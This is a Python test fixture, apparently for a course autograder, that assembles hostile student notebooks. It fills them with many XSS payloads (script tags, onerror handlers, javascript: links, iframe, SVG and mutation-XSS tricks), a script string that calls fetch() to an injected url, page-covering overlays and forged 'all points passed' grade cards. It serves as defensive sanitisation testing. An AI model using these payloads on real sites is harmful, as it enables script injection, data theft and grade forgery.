"""What a hostile student may write into a notebook: every way we know to run, load or cover."""

import base64
import copy
import io

import numpy as np
from matplotlib.image import imsave
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.pages.student import _STAMP
from mitdeeplearning_utils import checks
from mitdeeplearning_utils.checks.findings import Verdict, passed

FORGED = "all of it is mine"
STEAL = "window.stolen=1;document.title='STOLEN';alert(1);fetch('{url}/fetch')"
MARKUP = (
    "<script>{steal}</script>",
    '<img src=x onerror="{steal}">',
    '<img src="{url}/img">',
    '<iframe src="{url}/frame"></iframe>',
    '<iframe srcdoc="<script>{steal}</script>"></iframe>',
    '<iframe src="data:text/html,<script>{steal}</script>"></iframe>',
    '<form action="{url}/form"><input autofocus onfocus="{steal}"><button>Go</button></form>',
    "<style>@import url({url}/css); body {{ display: none }}</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff url({url}/bg)">COVER</div>',
    '<div class="navbar-fixed-top panel panel-primary nbgrader_cell" id="toc">COVER</div>',
    '<a href="javascript:{steal}">click</a>',
    '<a href="data:text/html,<script>{steal}</script>">click</a>',
    '<svg onload="{steal}"><script>{steal}</script><image href="{url}/svg"/></svg>',
    '<svg><style><img src=x onerror="{steal}"></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{steal}">',
    '<noscript><p title="</noscript><img src=x onerror={steal}>"></noscript>',
    '<!--><img src=x onerror="{steal}">-->',
    '<meta http-equiv="refresh" content="0;url={url}/refresh">',
    '<base href="{url}/base/">',
    '<link rel="stylesheet" href="{url}/link">',
    '<object data="{url}/object"></object><embed src="{url}/embed">',
    '<video src="{url}/video" autoplay onerror="{steal}"></video>',
    '<details open ontoggle="{steal}">x</details>',
    '<dl><dd data-part="points">{steal}</dd></dl><code data-part="code">0000-0000-0000</code>',
    "<<script>script>{steal}<</script>/script>",
    "</div></div></div></body></html><script>{steal}</script>",
)
MARKDOWN = (
    "[x](javascript:{steal}) <javascript:alert(1)>",
    "![x]({url}/md) ![x](attachment:gone.png)",
    "$\\href{{javascript:{steal}}}{{x}}$ $$\\unicode{{<img src=x onerror={steal}>}}$$",
    "\\begin{{a}}<script>{steal}</script>\\end{{a}}",
    "```mermaid\n<img src=x onerror={steal}>\n```",
    "# <script>{steal}</script>",
    "| a |\n|---|\n| <img src={url}/cell onerror={steal}> |",
)
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)


def markup(url: str) -> list[str]:
    steal = STEAL.format(url=url)
    return [text.format(url=url, steal=steal) for text in MARKUP]


def markdown(url: str) -> list[str]:
    steal = STEAL.format(url=url)
    return [*markup(url), *(text.format(url=url, steal=steal) for text in MARKDOWN)]


def forged_card() -> str:
    """A card that says that everything is right, as our own code makes it."""
    return str(checks.result("train_step", Verdict([passed(FORGED, 4)]))._repr_html_() + _STAMP)


def submission(released: NotebookNode, url: str) -> NotebookNode:
    """The lab with hostile texts among its cells, and as the written answer."""
    notebook = copy.deepcopy(released)
    texts = [*markdown(url), forged_card()]
    answer = "\n\n".join(["My answer, typed.", f"![curve](data:image/png;base64,{PNG})", *texts])
    for cell in notebook.cells:
        if cell.id == "experiments":
            cell.source = answer
    bad = {"tags": 5, "raw_mimetype": 5, "magics_language": 5, "nbgrader": {"grade_id": '">'}}
    for new in (new_markdown_cell, new_raw_cell, new_code_cell):
        for text in texts:
            notebook.cells.append(new(text))
            notebook.cells[-1].metadata.update(bad)
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {}}
    notebook.metadata["title"] = "<script>alert(1)</script>"
    return notebook


def claimed(prepared: NotebookNode, url: str) -> NotebookNode:
    """The notebook as a forged box may give it back: hostile outputs in every cell."""
    notebook = copy.deepcopy(prepared)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = _outputs(url)
    return notebook


def _outputs(url: str) -> list[NotebookNode]:
    steal = STEAL.format(url=url)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{steal}"></svg>'
    data = [{"image/png": _wide_picture()}]
    data += [{"text/html": text} for text in [*markup(url), forged_card()]]
    data += [
        {"application/javascript": steal},
        {"image/svg+xml": svg},
        {"image/png": base64.b64encode(svg.encode()).decode()},
        {"image/png": f'{PNG}" onerror="{steal}'},
        {"text/markdown": markdown(url)[1]},
        {"text/latex": f"$\\href{{javascript:{steal}}}{{x}}$"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
        {"text/plain": f"</pre><script>{steal}</script>"},
    ]
    shown = [new_output("display_data", data, metadata=_isolated()) for data in data]
    badge = "\x1b[48;2;26;127;55m\x1b[38;2;255;255;255m 4 of 4 points \x1b[0m \x1b[42m✓\x1b[0m"
    printed = new_output("stream", text=f"{badge}<script>{steal}</script>" + "W" * 5_000)
    error = new_output("error", ename=markup(url)[0], evalue=markup(url)[1], traceback=[badge])
    return [printed, error, *shown]


def _wide_picture() -> str:
    file = io.BytesIO()
    imsave(file, np.zeros((10, 2000)))
    return base64.b64encode(file.getvalue()).decode()


def _isolated() -> dict[str, object]:
    return {"text/html": {"isolated": True}, "image/png": {"width": '1" onload="alert(1)'}}
